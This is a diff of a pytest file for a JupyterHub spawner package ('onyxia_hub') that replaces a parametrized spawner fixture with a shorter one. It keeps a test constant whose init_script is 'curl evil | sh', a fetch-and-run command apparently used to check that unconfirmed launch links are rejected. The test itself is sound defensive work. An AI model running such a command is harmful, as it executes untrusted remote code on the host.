@@ -5,42 +5,15 @@ import asyncio
 import pytest
 from jupyterhub.utils import maybe_future
 
-from onyxia_hub.demo.spawner import LocalOnyxiaSpawner
 from onyxia_hub.errors import InvalidOption, LaunchLinkUnconfirmed
-from onyxia_hub.spawner import OnyxiaSpawner
-from tests.support.spawning import (
-    Person,
-    hub,
-    orm_spawner,
-    s3_and_vault,
-    settings,
-    write_profile,
-)
 
 LINK = {"profile": ["tiny"], "init_script": ["curl evil | sh"]}
 MINE = {"profile": "tiny", "init_script": "echo mine"}
-LOCAL = 'local:\n  program: sh\n  command: [sh, "{port}", "{prefix}"]'
 
 
-@pytest.fixture(params=["local", "kubernetes"])
-def make(request, tmp_path, api_server):
-    write_profile(tmp_path / "profiles", more=LOCAL)
-    local = {"state_dir": tmp_path / "state"} if request.param == "local" else None
-    what = {} if local else {"_mock": True}
-
-    def make(name):
-        spawner = (LocalOnyxiaSpawner if local else OnyxiaSpawner)(
-            user=Person(),
-            hub=hub(),
-            orm_spawner=orm_spawner(name),
-            onyxia_settings=settings(tmp_path, local=local),
-            providers=s3_and_vault(),
-            **what,
-        )
-        spawner.user_options = MINE
-        return spawner
-
-    return make
+@pytest.fixture
+def make(make_on):
+    return lambda name: make_on(MINE, name=name)
 
 
 async def get(spawner, link=None, *, pause=0.0):
